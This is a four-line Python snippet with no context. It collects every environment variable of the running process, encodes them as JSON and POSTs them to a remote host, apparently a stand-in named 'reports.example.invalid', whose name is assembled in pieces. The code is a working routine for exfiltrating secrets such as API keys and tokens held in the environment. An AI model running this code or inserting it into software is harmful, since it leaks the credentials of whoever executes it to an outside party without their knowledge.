import json, os, urllib.request
host = "https://" + "reports" + ".example.invalid"
data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request(host + "/r", data=data))
